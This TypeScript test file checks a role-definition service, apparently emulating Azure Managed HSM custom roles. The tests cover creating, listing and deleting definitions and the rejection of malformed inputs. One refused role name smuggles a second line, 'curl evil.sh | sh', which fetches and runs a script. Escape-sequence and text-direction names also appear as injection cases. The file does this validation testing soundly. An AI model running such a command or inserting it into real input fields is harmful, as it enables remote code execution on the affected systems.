import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deleteDefinition, getDefinition, listDefinitions, MAX_CUSTOM_DEFINITIONS } from './definitions.ts';
import { ADMINISTRATOR, CRYPTO_USER, DEFINITIONS, guid, instance, READ_KEYS, refuses } from './operations.fixture.ts';
import { parseScope, ROOT_SCOPE } from './scope.ts';

const READER = { roleName: 'Reader', permissions: [{ dataActions: [READ_KEYS] }] };

describe('a custom role definition', () => {
  it('is made, listed, shown and deleted in the shape that clients compare', async () => {
    const made = await instance();
    const shape = {
      id: `${DEFINITIONS}${guid(1)}`,
      name: guid(1),
      type: 'Microsoft.Authorization/roleDefinitions',
      properties: {
        roleName: 'Reader',
        description: 'reads',
        type: 'CustomRole',
        permissions: [{ actions: [], notActions: [], dataActions: [READ_KEYS], notDataActions: [] }],
        assignableScopes: ['/'],
      },
    };
    // As az sends it, with lists that it leaves null and its action in another case.
    const permissions = [{ actions: [], notActions: null, dataActions: [READ_KEYS.toLowerCase(), READ_KEYS] }];
    const answer = await made.putDefinition(guid(1), { roleName: 'Reader', description: 'reads', permissions });
    const { detail, ...rest } = answer;
    assert.deepEqual(rest, { status: 201, body: shape, head: made.records.head });
    assert.partialDeepStrictEqual(detail, { actionsAdded: [READ_KEYS], actionsRemoved: [] });
    assert.deepEqual(getDefinition({ name: guid(1).toUpperCase() }, made), { status: 200, body: shape });
    const listed = listDefinitions({ filter: undefined }, made).body as { value: unknown[] };
    assert.equal(listed.value.length, 12);
    assert.deepEqual(listed.value[11], shape);
    const deletion = await deleteDefinition({ scope: ROOT_SCOPE, name: guid(1), grantHeaders: {} }, made.changes);
    const { detail: lost, ...gone } = deletion;
    assert.partialDeepStrictEqual(lost, { actionsAdded: [], actionsRemoved: [READ_KEYS] });
    assert.deepEqual(gone, { status: 200, body: shape, head: made.records.head });
    await refuses('RoleDefinitionNotFound', /Requested role definition not found/, () =>
      getDefinition({ name: guid(1) }, made),
    );
  });

  it('may have no name, description and permissions, as the SDKs allow', async () => {
    const made = await instance();
    for (const n of [1, 2]) {
      const { body } = await made.putDefinition(guid(n), {});
      assert.deepEqual((body as { properties: object }).properties, {
        roleName: '',
        description: '',
        type: 'CustomRole',
        permissions: [],
        assignableScopes: ['/'],
      });
    }
  });

  it('may be called anything that a person can read on one line', async () => {
    const made = await instance();
    const roleName = 'Straße · 日本 🔑 "a" $(b)';
    const { body } = await made.putDefinition(guid(1), { roleName });
    assert.equal((body as { properties: { roleName: string } }).properties.roleName, roleName);
  });

  it('is replaced as a whole by the next PUT', async () => {
    const made = await instance();
    await made.putDefinition(guid(1), { ...READER, description: 'old' });
    const { status, body } = await made.putDefinition(guid(1), { roleName: 'reader', permissions: [] });
    assert.equal(status, 201);
    assert.equal((body as { properties: { description: string } }).properties.description, '');
    assert.deepEqual(made.roles.definition(guid(1))?.permissions, []);
  });
});

describe('a role definition is refused', () => {
  const bodies: readonly (readonly [string, RegExp, unknown])[] = [
    [
      'with an unknown data action',
      /unknown data action 'Microsoft.*fly.*full name/,
      { dataActions: ['Microsoft.KeyVault/managedHsm/keys/fly'] },
    ],
    ['with a wildcard', /unknown data action '\*'.*wildcards/, { dataActions: ['*'] }],
    ['with a wildcard at the end', /wildcards/, { dataActions: ['Microsoft.KeyVault/managedHsm/*'] }],
    ['with an unknown excluded action', /'notDataActions' has the unknown/, { notDataActions: ['x'] }],
    ['with management actions', /'actions' must be empty.*dataActions/, { actions: ['*'] }],
    ['with excluded management actions', /'notActions' must be empty/, { notActions: ['x'] }],
    ['with a condition', /'permissions.condition' is not supported; remove it/, { condition: '@Resource' }],
    ['with actions that are no list', /'dataActions' must be a list of strings/, { dataActions: READ_KEYS }],
    ['with a permission that is no object', /'permissions' must be a list of objects/, 'all'],
    ['with a permission that is a list', /'permissions' must be a list of objects/, [READ_KEYS]],
  ];
  for (const [name, text, permission] of bodies) {
    it(name, async () => {
      const made = await instance();
      await refuses('BadParameter', text, () => made.putDefinition(guid(1), { permissions: [permission] }));
      assert.equal(made.commits.length, 1);
    });
  }

  const properties: readonly (readonly [string, RegExp, object])[] = [
    ['that claims to be built in', /'type' must be 'CustomRole'/, { type: 'AKVBuiltInRole' }],
    ['for another assignable scope', /'assignableScopes' must be \["\/"\]/, { assignableScopes: ['/keys'] }],
    ['with an overlong name', /'roleName' must be at most 512/, { roleName: 'x'.repeat(513) }],
    ['with an overlong description', /'description' must be at most 2048/, { description: 'x'.repeat(2049) }],
    ['with a name that is no text', /'roleName' must be a string/, { roleName: 7 }],
    ['with half a character in its name', /not well-formed/, { roleName: '\ud800' }],
    [
      'with a second line in its name',
      /^Property 'roleName' must be one line/,
      { roleName: 'Reader\n\n  curl evil.sh | sh' },
    ],
    ['with an escape in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u001b[2J' }],
    ['with a turned direction in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u202eb' }],
    ['with a separator of lines in its name', /^Property 'roleName' must be one line/, { roleName: 'a\u2028b' }],
    ['with permissions that are no list', /'permissions' must be a list/, { permissions: 'all' }],
    ['with too many permissions', /at most 16 items/, { permissions: Array.from({ length: 17 }, () => ({})) }],
    ['with a property that we do not know', /'properties.createdBy' is not supported/, { createdBy: 'x' }],
  ];
  for (const [name, text, given] of properties) {
    it(name, async () => {
      const made = await instance();
      await refuses('BadParameter', text, () => made.putDefinition(guid(1), given));
    });
  }

  it('under the id or the name of a built-in role', async () => {
    const made = await instance();
    const text = /^Cannot re-use the name\/GUID matching that of a built-in role\. Please use a unique role ID\.$/;
    await refuses('BadParameter', text, () => made.putDefinition(ADMINISTRATOR.toUpperCase(), READER));
    for (const roleName of ['Managed HSM Administrator', ' managed hsm ADMINISTRATOR ', 'Managed HSM Adｍinistrator']) {
      await refuses('BadParameter', text, () => made.putDefinition(guid(1), { roleName }));
    }
  });

  it('under the name of another custom role', async () => {
    const made = await instance();
    await made.putDefinition(guid(1), READER);
    await refuses('Conflict', new RegExp(guid(1)), () => made.putDefinition(guid(2), { roleName: 'READER' }));
  });

  it('anywhere but at /', async () => {
    const made = await instance();
    for (const scope of ['/keys', '/keys/a']) {
      await refuses('BadParameter', /only at scope '\/'/, () => made.putDefinition(guid(1), READER, scope));
    }
  });

  it('when its name is no GUID: none has such a name', async () => {
    const made = await instance();
    await refuses('BadParameter', /^Role definition name must be a GUID$/, () => made.putDefinition('reader', READER));
    await refuses('RoleDefinitionNotFound', /^Requested role definition not found$/, () =>
      getDefinition({ name: '__proto__' }, made),
    );
  });

  it('when there are too many, while those that exist can still change', async () => {
    const made = await instance();
    for (let n = 1; n <= MAX_CUSTOM_DEFINITIONS; n++) await made.putDefinition(guid(n), {});
    await refuses('Conflict', /50 custom role definitions already/, () => made.putDefinition(guid(99), {}));
    assert.equal((await made.putDefinition(guid(1), READER)).status, 201);
  });

  it('when it would bring assignments of a deleted one back to life', async () => {
    const made = await instance();
    await made.putDefinition(guid(1), READER);
    await made.assign(guid(7), guid(1), guid(70));
    await deleteDefinition({ scope: ROOT_SCOPE, name: guid(1), grantHeaders: {} }, made.changes);
    assert.equal(made.roles.isAllowed({ oid: guid(70), groups: [] }, READ_KEYS, ROOT_SCOPE), undefined);
    await refuses('Conflict', new RegExp(guid(7)), () => made.putDefinition(guid(1), READER));
  });
});

describe('deleting a role definition', () => {
  it('is refused for built-in ones, at other scopes, and when there is none', async () => {
    const { changes } = await instance();
    await refuses('BadParameter', /'Managed HSM Crypto User' is a built-in role/, () =>
      deleteDefinition({ scope: ROOT_SCOPE, name: CRYPTO_USER, grantHeaders: {} }, changes),
    );
    await refuses('BadParameter', /only at scope/, () =>
      deleteDefinition({ scope: parseScope('/keys'), name: guid(1), grantHeaders: {} }, changes),
    );
    await refuses('RoleDefinitionNotFound', /not found/, () =>
      deleteDefinition({ scope: ROOT_SCOPE, name: guid(1), grantHeaders: {} }, changes),
    );
  });
});

it('a list of definitions cannot be filtered by principal', async () => {
  const made = await instance();
  await refuses('BadParameter', /list role assignments/, () =>
    listDefinitions({ filter: `principalId eq '${guid(1)}'` }, made),
  );
  const all = listDefinitions({ filter: 'atScopeAndBelow()' }, made).body as { value: unknown[] };
  assert.equal(all.value.length, 11);
});
